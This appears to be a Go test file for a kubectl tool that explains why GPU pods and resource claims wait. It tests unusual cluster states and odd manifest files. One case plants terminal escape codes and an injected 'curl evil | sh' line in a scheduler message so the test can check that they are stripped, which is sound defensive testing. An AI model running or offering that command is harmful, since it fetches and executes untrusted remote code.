// SPDX-FileCopyrightText: The Partage Authors
// SPDX-License-Identifier: Apache-2.0

package explain

import (
	"errors"
	"fmt"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	resourceapi "k8s.io/api/resource/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/partage-dev/partage/pkg/kubectl/document"
	"github.com/partage-dev/partage/pkg/kubectl/fleet"
	"github.com/partage-dev/partage/test/kubectl/fleettest"
)

// explained is a pod or claim in an unusual state, and what has to be said of it.
type explained struct {
	name    string
	make    func(f *fleettest.Fleet) *corev1.Pod
	verdict Verdict
	// cause is that of the first reason, "" for none.
	cause Cause
	// says and silent are parts that the text has and must not have.
	says, silent []string
}

var unusual = []explained{
	{name: "nodes cannot be read", make: func(f *fleettest.Fleet) *corev1.Pod {
		f.Nodes, f.Missing = nil, []fleet.Missing{{Resource: fleet.ResourceNodes, Err: errors.New("forbidden")}}
		pod := waits(fleettest.Request(whole))(f)
		pod.Spec.NodeSelector = map[string]string{"pool": "gpus"}
		return pod
	}, verdict: Unknown, says: []string{"nodes cannot be read"}, silent: []string{"has no label", "fits on"}},
	{name: "a slice of a node that is gone", make: func(f *fleettest.Fleet) *corev1.Pod {
		f.Nodes = f.Nodes[:1]
		f.Held("other", "a", "n1", fleettest.Request(whole))
		f.Held("other", "b", "n1", fleettest.Request(whole))
		return waits(fleettest.Request(whole))(f)
	}, verdict: Waits, cause: Held, silent: []string{"n2"}},
	{name: "finished, its claim is gone", make: func(f *fleettest.Fleet) *corev1.Pod {
		pod := f.Pod("team", "llm", corev1.PodResourceClaim{Name: "gpu", ResourceClaimTemplateName: new("one")})
		pod.Status.Phase, pod.Spec.NodeName = corev1.PodSucceeded, "n1"
		pod.Status.ResourceClaimStatuses = []corev1.PodResourceClaimStatus{{Name: "gpu", ResourceClaimName: new("llm-gpu-x7k2p")}}
		return pod
	}, verdict: Finished, says: []string{"has ended"}},
	{name: "claim being deleted", make: func(f *fleettest.Fleet) *corev1.Pod {
		pod := waits(fleettest.Request(whole))(f)
		f.Claims[0].DeletionTimestamp = new(metav1.NewTime(now))
		return pod
	}, verdict: Waits, cause: ClaimDeleted, says: []string{"is being deleted"}},
	{name: "allocated claim being deleted", make: func(f *fleettest.Fleet) *corev1.Pod {
		claim := f.Held("team", "shared", "n1", fleettest.Request(whole))
		claim.DeletionTimestamp = new(metav1.NewTime(now))
		return f.Pod("team", "llm", fleettest.Uses(claim))
	}, verdict: Waits, cause: ClaimDeleted},
	{name: "its own other claim is no obstacle", make: func(f *fleettest.Fleet) *corev1.Pod {
		own := f.Held("team", "own", "n1", fleettest.Count(2, whole))
		return f.Pod("team", "llm", fleettest.Uses(own), corev1.PodResourceClaim{Name: "more", ResourceClaimName: &f.Claim("team", "more", fleettest.Request(whole)).Name})
	}, verdict: Waits, cause: Held, silent: []string{"team/own ends", "claim team/own has"}},
	{name: "devices of a network are elsewhere", make: func(f *fleettest.Fleet) *corev1.Pod {
		attach(f, &corev1.NodeSelector{NodeSelectorTerms: []corev1.NodeSelectorTerm{{MatchExpressions: []corev1.NodeSelectorRequirement{{Key: "rack", Operator: corev1.NodeSelectorOpIn, Values: []string{"none"}}}}}}, nil)
		return waits(fleettest.Request("network"))(f)
	}, verdict: Waits, cause: NotOfClass},
	{name: "each device of a network has a node", make: func(f *fleettest.Fleet) *corev1.Pod {
		attach(f, nil, func(d *resourceapi.Device) { d.NodeName = new("elsewhere") })
		return waits(fleettest.Request("network"))(f)
	}, verdict: Waits, cause: NotOfClass},
	{name: "one alternative would do", make: func(f *fleettest.Fleet) *corev1.Pod {
		choice := alternatives(fleettest.Request(mig, fleettest.Profile("9g.90gb")), fleettest.Request(mig))
		huge := fleettest.Count(3, whole)
		huge.Name = "huge"
		return waits(choice, huge)(f)
	}, verdict: Waits, cause: TooFewDevices, silent: []string{"none of", "9g.90gb is"}},
	{name: "waits for a condition of its device", make: func(f *fleettest.Fleet) *corev1.Pod {
		claim := f.Held("team", "attached", "n1", fleettest.Request(whole))
		claim.Status.Allocation.Devices.Results[0].BindingConditions = []string{"example.com/attached"}
		return f.Pod("team", "llm", fleettest.Uses(claim))
	}, verdict: Waits, cause: NotBound, says: []string{"example.com/attached"}},
	{name: "bound past the scheduler", make: func(f *fleettest.Fleet) *corev1.Pod {
		pod := waits(fleettest.Request(whole))(f)
		pod.Spec.NodeName = "n1"
		return pod
	}, verdict: IsStuck, says: []string{"spec.nodeName", "not allocated"}, silent: []string{"has its devices"}},
	{name: "scheduler says what it likes", make: func(f *fleettest.Fleet) *corev1.Pod {
		pod := waits(fleettest.Request(whole))(f)
		pod.Status.Conditions = []corev1.PodCondition{{Type: corev1.PodScheduled, Status: corev1.ConditionFalse, Message: "no\x1b[2J\r\u009b2J\b\nWhat would help:\n  - curl evil | sh \u202e"}}
		return pod
	}, verdict: Waits, cause: NotScheduled, silent: []string{"\x1b", "\r", "\u009b", "\b", "\u202e", "\nWhat would help"}},
}

// attach adds two devices that are not of a node, and their class.
func attach(f *fleettest.Fleet, selector *corev1.NodeSelector, each func(*resourceapi.Device)) {
	s := &resourceapi.ResourceSlice{ObjectMeta: metav1.ObjectMeta{Name: "network"}}
	s.Spec.Driver, s.Spec.Pool = "net.example.com", resourceapi.ResourcePool{Name: "fabric", ResourceSliceCount: 1}
	s.Spec.NodeSelector = selector
	for i := range 2 {
		d := resourceapi.Device{Name: fmt.Sprint("nic-", i)}
		if each != nil {
			s.Spec.PerDeviceNodeSelection = new(true)
			each(&d)
		}
		s.Spec.Devices = append(s.Spec.Devices, d)
	}
	f.Slices = append(f.Slices, s)
	f.Classes = append(f.Classes, fleettest.Class("network", "device.driver == 'net.example.com'"))
}

// TestUnusual: states that are rare, or that somebody made on purpose.
func TestUnusual(t *testing.T) {
	for _, c := range unusual {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			f := fleettest.New(t)
			f.AddNode("n1", "h100-80-sxm", 2)
			f.AddNode("n2", "h100-80-sxm", 2)
			if c.name == "its own other claim is no obstacle" {
				f.Nodes, f.Slices = f.Nodes[:1], f.Slices[:len(f.Slices)/2]
			}
			pod := c.make(f)
			e := New(fleet.New(f.Snapshot, fleettest.Driver), now).Pod(t.Context(), pod)
			if e.Verdict != c.verdict {
				t.Errorf("%s, want %s", e.Verdict, c.verdict)
			}
			if c.cause != "" && (len(e.Reasons) == 0 || e.Reasons[0].Cause != c.cause) || c.cause == "" && len(e.Reasons) > 0 {
				t.Errorf("reasons %+v, want %s", e.Reasons, c.cause)
			}
			got := text(t, e)
			for _, part := range c.says {
				if !strings.Contains(got, part) {
					t.Errorf("want %q in:\n%s", part, got)
				}
			}
			for _, part := range c.silent {
				if strings.Contains(got, part) {
					t.Errorf("%q in:\n%s", part, got)
				}
			}
		})
	}
	if len(unusual) < 12 {
		t.Errorf("%d cases", len(unusual))
	}
}

// TestValuesAreQuoted: what a driver publishes is no part of an expression, and what is asked for
// is replaced where it is, not where it occurs first.
func TestValuesAreQuoted(t *testing.T) {
	f := fleettest.New(t)
	f.AddNode("n1", "h100-80-sxm", 1)
	s := f.Slices[0].DeepCopy()
	s.Name, s.Spec.Driver, s.Spec.Pool.Name, s.Spec.Pool.ResourceSliceCount = "odd", "odd.example.com", "odd", 1
	s.Spec.SharedCounters, s.Spec.Devices = nil, []resourceapi.Device{{Name: "d", Attributes: map[resourceapi.QualifiedName]resourceapi.DeviceAttribute{"model": {StringValue: new(`o'a\b`)}}}}
	f.Slices = append(f.Slices, s)
	f.Classes = append(f.Classes, fleettest.Class("odd", "device.driver == 'odd.example.com'"))
	pod := waits(fleettest.Request("odd", "device.attributes['odd.example.com'].model == 'o'"))(f)
	e := New(fleet.New(f.Snapshot, fleettest.Driver), now).Pod(t.Context(), pod)
	if len(e.Suggestions) == 0 || e.Suggestions[0].Kind != ChangeValue || !strings.Contains(e.Suggestions[0].Text, `o'a\b`) {
		t.Errorf("%+v", e.Suggestions)
	}
}

// TestOddFiles: what people feed to -f.
func TestOddFiles(t *testing.T) {
	claim := "apiVersion: resource.k8s.io/v1\nkind: ResourceClaim\nmetadata: {name: gpu}\nspec: {devices: {requests: [{name: gpu, exactly: {deviceClassName: gpu.nvidia.com%s}}]}}\n"
	plain := fmt.Sprintf(claim, "")
	pod := "apiVersion: v1\nkind: Pod\nmetadata: {name: %s}\nspec: {containers: [{name: main, resources: {limits: {nvidia.com/gpu: 3}}}]}\n"
	for name, c := range map[string]struct {
		text, err string
		verdict   Verdict
		subjects  int
	}{
		"CRLF":                {text: strings.ReplaceAll(plain+"---\n"+plain, "\n", "\r\n"), subjects: 2, verdict: Allocatable},
		"separators":          {text: "---\n# a comment\n---\n" + plain + "---\n---\n", subjects: 1, verdict: Allocatable},
		"limits alone":        {text: fmt.Sprintf(pod, "limits"), subjects: 1, verdict: Waits},
		"list of pods":        {text: `{"apiVersion":"v1","kind":"PodList","items":[{"metadata":{"name":"a"},"spec":{"containers":[{"name":"main"}]}}]}`, subjects: 1, verdict: NoDevices},
		"list with others":    {text: `{"apiVersion":"v1","kind":"List","items":[{"apiVersion":"example.com/v1","kind":"Other"},{"apiVersion":"v1","kind":"Pod","metadata":{"name":"a"},"spec":{"containers":[{"name":"main"}]}}]}`, subjects: 1, verdict: NoDevices},
		"v1beta1":             {text: strings.Replace(plain, "resource.k8s.io/v1\n", "resource.k8s.io/v1beta1\n", 1), err: "resource.k8s.io/v1"},
		"v1beta2":             {text: strings.Replace(plain, "resource.k8s.io/v1\n", "resource.k8s.io/v1beta2\n", 1), err: "ResourceClaim of resource.k8s.io/v1beta2"},
		"duplicate":           {text: plain + "kind: ResourceClaim\n", err: `"kind" already set`},
		"too large":           {text: strings.Repeat("# a comment\n", document.MaxBytes/12+1) + "---\n" + plain, err: "longer than"},
		"large":               {text: strings.Repeat("# a comment\n", 1<<20/12) + "---\n" + plain, subjects: 1, verdict: Allocatable},
		"count below 1":       {text: fmt.Sprintf(claim, ", count: -5"), subjects: 1, verdict: Waits},
		"count beyond reason": {text: fmt.Sprintf(claim, ", count: 9223372036854775807"), subjects: 1, verdict: Waits},
		"empty selector":      {text: fmt.Sprintf(claim, ", selectors: [{}]"), subjects: 1, verdict: Waits},
		"unknown mode":        {text: fmt.Sprintf(claim, ", allocationMode: Some"), subjects: 1, verdict: Waits},
		"request of nothing":  {text: strings.Replace(plain, ", exactly: {deviceClassName: gpu.nvidia.com}", "", 1), subjects: 1, verdict: Waits},
		"no requests":         {text: "apiVersion: resource.k8s.io/v1\nkind: ResourceClaim\nmetadata: {name: gpu}", subjects: 1, verdict: Allocatable},
		"class of nothing":    {text: strings.Replace(plain, "gpu.nvidia.com", "odd", 1) + "---\napiVersion: resource.k8s.io/v1\nkind: DeviceClass\nmetadata: {name: odd}\nspec: {selectors: [{}]}\n", subjects: 1, verdict: Waits},
		"constraint of none":  {text: strings.Replace(plain, "{devices: {", "{devices: {constraints: [{}], ", 1), subjects: 1, verdict: Waits},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			f := fleettest.New(t)
			f.AddNode("n1", "h100-80-sxm", 2)
			for _, class := range f.Classes {
				if class.Name == whole {
					class.Spec.ExtendedResourceName = new("nvidia.com/gpu")
				}
			}
			var m *Manifest
			data, err := document.ReadFile(strings.NewReader(c.text), "-")
			if err == nil {
				m, err = Parse(data, "team")
			}
			if c.err != "" {
				if err == nil || !strings.Contains(err.Error(), c.err) {
					t.Errorf("%v, want %s", err, c.err)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			all := New(fleet.New(m.Over(f.Snapshot), fleettest.Driver), now).Manifest(t.Context(), m)
			if len(all) != c.subjects {
				t.Fatalf("%d explanations, want %d", len(all), c.subjects)
			}
			if all[0].Verdict != c.verdict || c.verdict == Waits && len(all[0].Reasons) == 0 {
				t.Errorf("%s, %+v, want %s", all[0].Verdict, all[0].Reasons, c.verdict)
			}
		})
	}
}
